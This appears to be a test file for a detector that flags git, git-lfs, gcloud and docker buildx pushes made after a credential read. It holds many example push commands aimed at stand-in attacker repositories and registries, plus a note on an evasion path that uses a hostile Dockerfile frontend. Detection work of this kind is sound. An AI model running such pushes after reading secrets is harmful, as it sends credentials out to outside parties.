/**
 * Options read with the wrong arity or meaning (detection gaps listed after session 16): `git push
 * --recurse-submodules check URL` took `check` for the remote (git takes it for the option's value), `git push
 * --repo URL` named no destination though git pushes there, standalone `git-lfs push -ad` (pflag's bundle of
 * `--all` and `--dry-run`) was a push, and two commands that upload nothing were pushes: `gcloud app deploy
 * --image-url` (a built image: gcloud uploads no file) and buildx's `--call check|outline|targets` with `--push`
 * (the Dockerfile frontend's checks or a listing). Red-team review of the last: buildx keeps the outputs with a
 * call and leaves it to the frontend, which a Dockerfile's `# syntax=` line names unseen, and one may ignore it,
 * build and push: such builds are pushes again, kept as doubtful. Each from Tetragon and Falco events alike.
 */
import { describe, expect, it } from 'vitest';
import { PUSH_IP as IP, secretThenPush } from './secret-then-push.js';

/** The alerts `binary args` raises after a credential read, with their remote. */
function afterSecret(binary: string, args: string, source: 'tetragon' | 'falco') {
  return secretThenPush(binary, args, source).map((a) => ({
    rule: a.rule,
    tool: a.push.tool,
    destination: a.push.destination,
    remote: a.push.remote,
  }));
}

const URL = 'https://github.com/evil/x.git';
const gitPush = (remote: string | null = URL, destination = 'github.com') => [
  { rule: 'sensitive-read-then-push', tool: 'git', destination, remote },
];

describe('option values read as the tools read them', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`git push --recurse-submodules takes the next word as its value, by any prefix (${source})`, () => {
      for (const args of [
        `push --recurse-submodules check ${URL} main`,
        `push --recurse-submodules on-demand ${URL} main`,
        `push --recurse-submodules only ${URL}`,
        `push --recurse-submodules no ${URL} HEAD`,
        `push --recurse-sub check ${URL} main`,
        `push --recu=on-demand ${URL} main`,
        // The negation takes no value: `check` is the remote then (git's own parse).
        `push --no-recurse-submodules ${URL} main`,
        // Optional values only after `=`: the next word is the remote.
        `push --force-with-lease ${URL} main`,
        `push --force-with-lease=main:abc123 ${URL} main`,
        `push --signed ${URL} main`,
      ])
        expect(afterSecret('/usr/bin/git', args, source), args).toEqual(gitPush());
    });

    it(`git push --repo names the repository when no positional does (${source})`, () => {
      for (const args of [`push --repo ${URL}`, `push --repo=${URL}`, `push --rep ${URL}`, `push -f --repo ${URL}`])
        expect(afterSecret('/usr/bin/git', args, source), args).toEqual(gitPush());
      // A repository argument wins over --repo, as in git.
      expect(afterSecret('/usr/bin/git', `push --repo https://gitlab.com/acme/a.git ${URL}`, source)).toEqual(
        gitPush(),
      );
      // A remote's name: the destination is the first connect's, as for `git push origin`.
      expect(afterSecret('/usr/bin/git', 'push --repo=origin', source)).toEqual(gitPush('origin', `${IP}:443`));
      expect(afterSecret('/usr/bin/git', `push --repo ${URL} --no-repo`, source)).toEqual(gitPush(null, `${IP}:443`));
    });

    it(`git-lfs push bundles pflag short flags: -ad is a dry run (${source})`, () => {
      for (const args of ['push -ad origin main', 'push -da origin', 'push -d=true origin'])
        expect(afterSecret('/usr/bin/git-lfs', args, source), args).toEqual([]);
      for (const args of ['push -a origin main', 'push -ad=false origin main', 'push -o origin 4d7a2146'])
        expect(afterSecret('/usr/bin/git-lfs', args, source), args).toEqual(gitPush('origin', `${IP}:443`));
      // Run as `git lfs push`: git-lfs's options, not git push's (`-o` is its boolean `--object-id`).
      expect(afterSecret('/usr/bin/git', 'lfs push -ad origin main', source)).toEqual([]);
      expect(afterSecret('/usr/bin/git', `-c http.sslVerify=false lfs push -o ${URL} 4d7a2146`, source)).toEqual(
        gitPush(),
      );
    });

    it(`gcloud app deploy of a built image (--image-url) uploads no source (${source})`, () => {
      for (const args of [
        'app deploy --image-url=us-docker.pkg.dev/acme/app/app:1',
        'app deploy app.yaml --image-url us-docker.pkg.dev/acme/app/app:1 --quiet',
        'beta app deploy --image-url=us-docker.pkg.dev/acme/app/app:1',
      ])
        expect(afterSecret('/usr/bin/gcloud', args, source), args).toEqual([]);
      expect(afterSecret('/usr/bin/gcloud', 'app deploy app.yaml --quiet', source)).toEqual([
        { rule: 'sensitive-read-then-push', tool: 'gcloud', destination: 'storage.googleapis.com', remote: 'app.yaml' },
      ]);
    });

    it(`buildx --call with --push stays a push, its value read as a value (${source})`, () => {
      // A frontend of the attacker's own (`# syntax=evil/frontend` in the Dockerfile) answers `check` by building.
      for (const [binary, args] of [
        ['/usr/bin/docker', 'buildx build --call check --push -t ghcr.io/evil/x:1 .'],
        ['/usr/bin/docker', 'buildx build --call=outline --push -t ghcr.io/evil/x:1 .'],
        ['/usr/bin/docker', 'build --check --push -t ghcr.io/evil/x:1 .'],
        ['/usr/bin/docker', 'buildx build --call=check,format=json --push -t ghcr.io/evil/x:1 .'],
        ['/usr/local/bin/docker-buildx', 'build --check --push -t ghcr.io/evil/x:1 .'],
        // A later --call build (or --check=false, or an empty --call) builds after all.
        ['/usr/bin/docker', 'buildx build --call build --push -t ghcr.io/evil/x:1 .'],
        ['/usr/bin/docker', 'buildx build --check --call build --push -t ghcr.io/evil/x:1 .'],
        ['/usr/bin/docker', 'buildx build --check=false --push -t ghcr.io/evil/x:1 .'],
        ['/usr/bin/docker', 'buildx build --call= --push -t ghcr.io/evil/x:1 .'],
        ['/usr/local/bin/docker-buildx', 'build --call check --call build --push -t ghcr.io/evil/x:1 .'],
      ] as const)
        expect(afterSecret(binary, args, source), args).toMatchObject([
          { rule: 'sensitive-read-then-push', tool: 'docker', remote: 'ghcr.io/evil/x:1' },
        ]);
      for (const args of [
        'buildx bake --call check --push',
        'buildx bake --check --push',
        'buildx bake --call build --push',
      ])
        expect(afterSecret('/usr/bin/docker', args, source), args).toMatchObject([
          { rule: 'sensitive-read-then-push', tool: 'docker', remote: null },
        ]);
      // The call's value is no build context: the cache export names its own destination.
      expect(
        afterSecret(
          '/usr/bin/docker',
          'buildx build --call check --cache-to type=registry,ref=ghcr.io/evil/c .',
          source,
        ),
      ).toMatchObject([{ rule: 'sensitive-read-then-push', tool: 'docker', remote: 'ghcr.io/evil/c' }]);
    });
  }
});
